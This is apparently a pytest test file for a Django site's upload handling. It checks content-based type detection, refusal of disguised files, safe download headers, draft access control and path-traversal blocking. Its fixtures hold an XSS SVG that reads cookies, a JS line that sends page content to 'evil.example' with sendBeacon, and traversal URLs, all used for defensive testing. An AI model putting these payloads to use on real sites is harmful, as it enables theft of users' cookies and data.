"""Finding 1 of issue 11: uploads must never run as the site.

What a file is comes from its bytes; documents are downloads; files of items that are not public are served
only to those who may see the item; production serves uploads through the same view."""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partnerpost.content import workflows
from partnerpost.content.enums import ItemKind, ItemState
from partnerpost.content.models import Item
from tests.factories import make_item

DOCUMENT_MESSAGE = ("Document file: this file is {found}; upload a PDF, a Word, Excel or PowerPoint file, "
                    "or an OpenDocument file.")
PDF_BYTES = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
             b"trailer<</Root 1 0 R>>\n%%EOF\n")
HTML_BYTES = b"<!DOCTYPE html><html><body><script src='/media/documents/2020/x.js'></script></body></html>"
SVG_BYTES = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
             b"<script>alert(1)</script></svg>")
JS_BYTES = b"fetch('/workspace/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t));\n"


def _png(fmt="PNG") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "blue").save(buffer, fmt)
    return buffer.getvalue()


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _ooxml(main: str) -> bytes:
    types = (f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             f'<Override PartName="/x/main.xml" ContentType="application/vnd.openxmlformats-officedocument.{main}'
             f'.main+xml"/></Types>').encode()
    return _zip({"[Content_Types].xml": types, "x/main.xml": b"<x/>"})


def _odf(mime: str) -> bytes:
    return _zip({"mimetype": mime.encode(), "content.xml": b"<office:document-content/>"})


def _ole(stream_name: str) -> bytes:
    """A minimal OLE2 compound file: a header, one FAT sector and one directory sector."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 0x2C, 1)  # one FAT sector
    struct.pack_into("<I", header, 0x30, 1)  # the directory starts in sector 1
    struct.pack_into("<III", header, 0x38, 4096, 0xFFFFFFFE, 0)
    struct.pack_into("<II", header, 0x44, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([0xFFFFFFFF] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    directory = bytearray(512)
    for index, name in enumerate(["Root Entry", stream_name]):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[index * 128:index * 128 + len(encoded)] = encoded
        struct.pack_into("<HB", directory, index * 128 + 0x40, len(encoded), 5 if index == 0 else 2)
    return bytes(header) + fat + bytes(directory)


@pytest.mark.parametrize(("data", "expected"), [
    (PDF_BYTES, "pdf"),
    (lambda: _ooxml("wordprocessingml.document"), "docx"),
    (lambda: _ooxml("spreadsheetml.sheet"), "xlsx"),
    (lambda: _ooxml("presentationml.presentation"), "pptx"),
    (lambda: _odf("application/vnd.oasis.opendocument.text"), "odt"),
    (lambda: _odf("application/vnd.oasis.opendocument.spreadsheet"), "ods"),
    (lambda: _odf("application/vnd.oasis.opendocument.presentation"), "odp"),
    (lambda: _ole("WordDocument"), "doc"),
    (lambda: _ole("Workbook"), "xls"),
    (lambda: _ole("PowerPoint Document"), "ppt"),
    (lambda: _ole("Something Else"), "ole"),
    (lambda: _zip({"index.html": HTML_BYTES}), "zip"),
    (_png, "png"),
    (lambda: _png("JPEG"), "jpeg"),
    (lambda: _png("WEBP"), "webp"),
    (HTML_BYTES, "html"),
    (b"\n\n  <html><p>hello", "html"),
    (SVG_BYTES, "svg"),
    (JS_BYTES, "text"),
    (b"", "empty"),
])
def test_detect_tells_the_type_from_the_content(data, expected):
    from partnerpost.content import uploads

    assert uploads.detect(data() if callable(data) else data).key == expected


def _form_data(people, **files):
    return {"kind": "publication", "partner": people.icap.pk, "title": "Annual report", "summary": "A year.",
            "language": "en", **files}


def _media_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize(("data", "found"), [
    (HTML_BYTES, "an HTML page"),
    (JS_BYTES, "a text file"),
    (SVG_BYTES, "an SVG drawing (refused because it can carry script)"),
])
def test_upload_disguised_as_pdf_is_refused_with_the_field_named_and_nothing_written(client, people, settings,
                                                                                      data, found):
    client.force_login(people.icap_contributor)
    response = client.post(reverse("workspace:create"),
                           _form_data(people, document_file=SimpleUploadedFile("report.pdf", data, "application/pdf")))
    assert response.status_code == 200
    assert response.context["form"].errors["document_file"] == [DOCUMENT_MESSAGE.format(found=found)]
    assert Item.objects.count() == 0
    assert _media_files(settings) == []


def test_svg_image_is_refused_by_the_form_with_the_field_named(client, people, settings):
    client.force_login(people.icap_contributor)
    data = _form_data(people, kind="news", image_alt="Logo",
                      image=SimpleUploadedFile("logo.png", SVG_BYTES, content_type="image/png"))
    response = client.post(reverse("workspace:create"), data)
    assert response.context["form"].errors["image"] == [
        "Image: this file is an SVG drawing (refused because it can carry script); upload a PNG, JPEG or WebP image."]
    assert Item.objects.count() == 0
    assert _media_files(settings) == []


def test_every_door_gives_the_same_error(people, settings):
    """save_item, which the API and the importer call too, refuses the same file with the same message."""
    data = workflows.ItemInput(values={
        "kind": ItemKind.PUBLICATION, "partner": people.icap, "title": "Annual report", "summary": "A year.",
        "document_file": SimpleUploadedFile("report.pdf", HTML_BYTES),
    })
    with pytest.raises(ValidationError) as caught:
        workflows.save_item(people.icap_contributor, data)
    assert caught.value.message_dict["document_file"] == [DOCUMENT_MESSAGE.format(found="an HTML page")]
    assert Item.objects.count() == 0
    assert _media_files(settings) == []


def test_stored_name_is_random_and_has_the_detected_extension(people, settings):
    data = workflows.ItemInput(values={
        "kind": ItemKind.PUBLICATION, "partner": people.icap, "title": "Annual report", "summary": "A year.",
        "document_file": SimpleUploadedFile("report.html", PDF_BYTES),
    })
    item = workflows.save_item(people.icap_contributor, data)
    name = item.document_file.name
    assert name.startswith("documents/") and name.endswith(".pdf")
    assert "report" not in name
    assert len(Path(name).stem) == 24  # 18 random bytes, URL-safe
    other = workflows.save_item(people.icap_contributor, workflows.ItemInput(values={
        **data.values, "title": "Annual report 2", "document_file": SimpleUploadedFile("report.html", PDF_BYTES)}))
    assert Path(other.document_file.name).stem != Path(name).stem


def test_a_file_placed_under_the_media_root_as_html_is_not_served_inline_as_text_html(client, people, settings):
    placed = Path(settings.MEDIA_ROOT) / "documents" / "2020" / "page.html"
    placed.parent.mkdir(parents=True)
    placed.write_bytes(HTML_BYTES)
    response = client.get("/media/documents/2020/page.html")
    assert response.status_code == 404
    assert not response.get("Content-Type", "").startswith("text/html") or b"<script" not in response.content
    # Even when a row names it (a file stored before uploads were checked), it is a download of unknown type.
    make_item(people.icap, state=ItemState.PUBLISHED, kind=ItemKind.PUBLICATION, document_file="documents/2020/page.html")
    response = client.get("/media/documents/2020/page.html")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_an_image_is_inline_only_when_its_content_is_a_picture(client, people, settings):
    root = Path(settings.MEDIA_ROOT) / "items" / "2020"
    root.mkdir(parents=True)
    (root / "good.png").write_bytes(_png())
    (root / "bad.png").write_bytes(SVG_BYTES)
    make_item(people.icap, state=ItemState.PUBLISHED, image="items/2020/good.png", image_alt="Blue")
    make_item(people.icap, state=ItemState.PUBLISHED, image="items/2020/bad.png", image_alt="Drawing")
    good = client.get("/media/items/2020/good.png")
    assert good.status_code == 200
    assert good["Content-Type"] == "image/png"
    assert good["Content-Disposition"].startswith("inline;")
    assert good["X-Content-Type-Options"] == "nosniff"
    bad = client.get("/media/items/2020/bad.png")
    assert bad["Content-Type"] == "application/octet-stream"
    assert bad["Content-Disposition"].startswith("attachment;")


def _draft_with_document(people, settings) -> Item:
    item = make_item(people.icap, kind=ItemKind.PUBLICATION, title="Unsubmitted study")
    item.document_file.save("study.pdf", ContentFile(PDF_BYTES), save=True)
    return item


def test_a_drafts_document_is_hidden_from_anonymous_and_other_partners(client, people, settings):
    item = _draft_with_document(people, settings)
    url = item.document_file.url
    assert url.startswith("/media/documents/") and url.endswith(".pdf")
    assert client.get(url).status_code == 404
    for person in (people.eropa_contributor, people.outsider):
        client.force_login(person)
        assert client.get(url).status_code == 404
    for person in (people.icap_contributor, people.editor):
        client.force_login(person)
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"] == f'attachment; filename="{item.slug}.pdf"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Cache-Control"] == "private, no-store"
        assert b"".join(response.streaming_content) == PDF_BYTES


def test_a_public_items_document_may_be_cached(client, people, settings):
    item = _draft_with_document(people, settings)
    Item.objects.filter(pk=item.pk).update(state=ItemState.PUBLISHED)
    response = client.get(item.document_file.url)
    assert response.status_code == 200
    assert response["Cache-Control"] == f"public, max-age={settings.MEDIA_CACHE_SECONDS}"
    assert response["Content-Disposition"].startswith("attachment;")
    again = client.get(item.document_file.url, HTTP_IF_MODIFIED_SINCE=response["Last-Modified"])
    assert again.status_code == 304


def test_accel_redirect_leaves_the_bytes_to_the_web_server(client, people, settings):
    settings.MEDIA_ACCEL_REDIRECT = "/protected-media/"
    item = _draft_with_document(people, settings)
    client.force_login(people.icap_contributor)
    response = client.get(item.document_file.url)
    assert response["X-Accel-Redirect"] == "/protected-media/" + item.document_file.name
    assert response.content == b""
    assert response["Content-Disposition"].startswith("attachment;")


def test_paths_outside_the_media_root_are_404(client, people):
    assert client.get("/media/../settings.py").status_code == 404
    assert client.get("/media/%2e%2e/partnerpost/settings.py").status_code == 404


PRODUCTION_SCRIPT = r"""
import django, os
django.setup()
from django.core.management import call_command
call_command("migrate", verbosity=0)
from django.core.files.base import ContentFile
from django.test import Client
from partnerpost.content.models import Item
from partnerpost.network.models import Partner
from django.conf import settings
assert settings.DEBUG is False and settings.PRODUCTION
partner = Partner.objects.create(acronym="ICAP", name="ICAP", slug="icap")
item = Item(partner=partner, kind="publication", title="Report", slug="report", summary="S", state="published")
item.compute_derived()
item.document_file.save("r.pdf", ContentFile(b"%PDF-1.4\n%%EOF\n"), save=True)
draft = Item(partner=partner, kind="publication", title="Draft", slug="draft", summary="S", state="draft")
draft.compute_derived()
draft.document_file.save("d.pdf", ContentFile(b"%PDF-1.4\n%%EOF\n"), save=True)
client = Client(HTTP_HOST="news.example.org")
public = client.get(item.document_file.url, secure=True)
hidden = client.get(draft.document_file.url, secure=True)
print(public.status_code, public["Content-Type"], public["Content-Disposition"].split(";")[0],
      public["Cache-Control"], hidden.status_code)
"""


def test_production_settings_serve_media(tmp_path):
    env = {k: v for k, v in os.environ.items() if k not in {"DEBUG", "DATABASE_URL", "MEDIA_ROOT"}}
    env.update({
        "PARTNERPOST_ENV": "production", "SECRET_KEY": "k3" * 30, "ALLOWED_HOSTS": "news.example.org",
        "PARTNERPOST_VAR_DIR": str(tmp_path), "DATABASE_URL": f"sqlite:///{tmp_path}/prod.sqlite3",
        "DJANGO_SETTINGS_MODULE": "partnerpost.settings",
        "PYTHONPATH": os.pathsep.join(filter(None, [str(Path(__file__).resolve().parents[2]), env.get("PYTHONPATH")])),
    })
    result = subprocess.run([sys.executable, "-c", PRODUCTION_SCRIPT], env=env, capture_output=True, text=True,
                            timeout=180)
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.split() == ["200", "application/pdf", "attachment", "public,", "max-age=600", "404"]
